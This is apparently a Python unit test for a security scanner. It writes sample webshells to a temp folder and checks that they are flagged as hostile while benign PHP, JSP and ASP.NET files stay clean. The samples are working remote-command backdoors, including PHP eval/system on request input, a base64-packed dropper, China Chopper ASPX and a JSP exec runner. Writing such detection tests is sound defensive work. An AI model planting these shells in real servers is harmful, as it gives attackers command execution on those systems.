#!/usr/bin/env python3
"""Webshells raise an alert (rules/hostile/webshell.yar: a rule's meta
alert is an alert on the object, not a finding; docs/rules.md, "Alerts from
rules"): PHP one-liners and packed droppers (eval($_POST[...]),
eval(gzinflate(base64_decode(...))), assert($_REQUEST[...]), system($_GET[...]),
preg_replace's /e on request input, create_function), ASP.NET China
Chopper and a JSP command runner, each verdict hostile with no finding;
beside ordinary PHP, JSP and ASP.NET code that echoes request input, runs
fixed commands or decodes base64 into a variable, which stays clean. The
files are written here from scratch."""
import os
import shutil
import sys
import tempfile
import unittest
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import lsutil  # noqa: E402

SHELLS = {
    "www/uploads/img_2931.php": '<?php @eval($_POST["z0"]);?>\n',
    "www/wp-content/plugins/seo-pack/cache.php": "<?php\n$k = 'c3lzdGVtKCRfR0VUWyJjIl0pOw==';\n"
                                                "eval(gzinflate(base64_decode('8yjJzNUrLk0u0S9JLS4BAA==')));\n",
    "www/admin/lang.php": "<?php\nif (isset($_REQUEST['x'])) { @assert($_REQUEST['x']); }\n",
    "www/cgi/ping.php": "<?php\necho '<pre>';\nsystem($_GET['cmd']);\necho '</pre>';\n",
    "www/old/tpl.php": "<?php\n$s = preg_replace('/.*/e', $_POST['code'], '');\n",
    "www/old/fn.php": "<?php\n$f = create_function('', $_COOKIE['f']);\n$f();\n",
    "iis/aspnet_client/errors.aspx": '<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>\n',
    "tomcat/webapps/ROOT/status.jsp": '<%@ page import="java.io.*" %>\n<% Process p = Runtime.getRuntime().exec('
                                      'request.getParameter("cmd")); %>\n',
}
CLEAN = {
    "www/search.php": "<?php\necho htmlspecialchars($_GET['q'], ENT_QUOTES);\n$out = shell_exec('uptime');\n"
                      "$data = base64_decode($_POST['payload']);\n$ok = eval('return 1;');\n",
    "www/upload.php": "<?php\n$name = basename($_FILES['f']['name']);\nmove_uploaded_file($_FILES['f']['tmp_name'], "
                      "'/srv/up/' . $name);\n$html = preg_replace('/\\s+/', ' ', $_POST['bio']);\n",
    "tomcat/webapps/ROOT/hello.jsp": '<% String n = request.getParameter("name"); %>Hello <%= n %>\n'
                                     '<% Runtime.getRuntime().exec(new String[]{"/usr/bin/logger", "hello"}); %>\n',
    "iis/Default.aspx": '<%@ Page Language="C#"%><% Response.Write(Server.HtmlEncode(Request.Item["q"])); %>\n',
}


class WebshellAlert(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.mkdtemp(prefix="webshell-")
        cls.root = os.path.join(cls.tmp, "dump")
        for rel, text in list(SHELLS.items()) + list(CLEAN.items()):
            p = os.path.join(cls.root, rel)
            os.makedirs(os.path.dirname(p), exist_ok=True)
            with open(p, "w", encoding="utf-8") as f:
                f.write(text)
        proc, cls.man = lsutil.scan(cls.tmp, [cls.root], "-j2")
        assert cls.man is not None, proc.stderr
        cls.by = {os.path.relpath(r["path"], cls.root): r for r in cls.man.roots()}

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def test_webshells_alert(self):
        for rel in SHELLS:
            with self.subTest(rel=rel):
                o = self.by[rel]
                self.assertIn("webshell", o["alerts"])
                self.assertEqual(o["verdict"], "hostile")
                self.assertFalse([f for f in o["findings"] if f.get("entity") == "webshell"])

    def test_ordinary_code_clean(self):
        for rel in CLEAN:
            with self.subTest(rel=rel):
                self.assertNotIn("webshell", self.by[rel]["alerts"])


if __name__ == "__main__":
    unittest.main()
